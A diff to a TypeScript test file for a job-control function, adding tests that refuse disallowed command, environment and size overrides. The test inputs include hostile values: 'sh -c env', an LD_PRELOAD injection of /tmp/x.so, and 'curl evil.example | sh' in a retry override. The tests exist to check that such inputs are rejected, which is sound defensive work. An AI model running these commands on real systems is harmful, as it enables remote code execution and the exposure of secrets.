@@ -3,13 +3,23 @@
  * ports: refusals come back `ok: false` with their code, AWS failures throw so the CLI can retry.
  */
 import { describe, expect, it } from 'vitest';
+import type { Catalog } from '../../../lib/catalog/schema.ts';
 import { answerControl } from '../../../lib/control.ts';
 import type { Run } from '../../../lib/domain/run.ts';
 import { exampleCatalog } from '../../helpers/catalogs.ts';
 import { buildDeps, fakeStore } from '../../helpers/fakes.ts';
 
-const answer = (store: ReturnType<typeof fakeStore>, request: unknown) => {
-  const { core, ecs } = buildDeps(store, exampleCatalog());
+/** The example catalog, with csv-ingest accepting any variable (the name and size rules are what is tested). */
+const anyVariable = (): Catalog => {
+  const c = exampleCatalog();
+  return {
+    ...c,
+    jobs: c.jobs.map((j) => (j.name === 'csv-ingest' ? { ...j, overrides: { ...j.overrides, environment: true } } : j)),
+  };
+};
+
+const answer = (store: ReturnType<typeof fakeStore>, request: unknown, catalog: Catalog = anyVariable()) => {
+  const { core, ecs } = buildDeps(store, catalog);
   return answerControl({ ...core, ecs }, request);
 };
 
@@ -135,5 +145,56 @@ describe('Function: answerControl', () => {
       );
     }
     expect(made).toHaveLength(1);
+  });
+});
+
+describe('Function: answerControl (who may override what)', () => {
+  it.each([
+    [
+      'a command for a job that does not accept one',
+      { action: 'trigger', job: 'csv-ingest', overrides: { command: ['sh', '-c', 'env'] } },
+      "command: job 'csv-ingest' does not accept a command override",
+    ],
+    [
+      'a variable the job does not list',
+      { action: 'trigger', job: 'csv-ingest', overrides: { environment: { LD_PRELOAD: '/tmp/x.so' } } },
+      "environment.LD_PRELOAD: job 'csv-ingest' does not accept it (its overrides.environment allows BATCH_ROWS, SOURCE_DATE)",
+    ],
+    [
+      'a size for a job whose overrides.size is false',
+      { action: 'trigger', job: 'nightly-report', overrides: { cpu: 2048, memory: 8192 } },
+      "cpu/memory: job 'nightly-report' does not accept a size override",
+    ],
+  ])('refuses %s, before creating a run', async (_what, request, message) => {
+    // Prepare
+    const store = fakeStore();
+
+    // Act
+    const out = await answer(store, request, exampleCatalog());
+
+    // Assess
+    expect(out).toMatchObject({ ok: false, error: { code: 'REQUEST_REJECTED' } });
+    expect(out.ok ? '' : out.error.message).toContain(message);
+    expect(store.calls).toHaveLength(0);
+  });
+
+  it('refuses to retry a run whose overrides its job no longer accepts', async () => {
+    // Prepare
+    const failed = {
+      ...(await import('../../helpers/items.ts')).runItem(
+        'csv-ingest',
+        { type: 'manual', token: 'old' },
+        { status: 'FAILED' },
+      ),
+      overrides: { command: ['sh', '-c', 'curl evil.example | sh'] },
+    };
+    const store = fakeStore({ getRun: async () => failed });
+
+    // Act
+    const out = await answer(store, { action: 'retry', runId: failed.runId, clientToken: 'r1' }, exampleCatalog());
+
+    // Assess
+    expect(out).toMatchObject({ ok: false, error: { code: 'REQUEST_REJECTED' } });
+    expect(store.calls.map((c) => c.method)).toEqual(['getRun']);
   });
 });
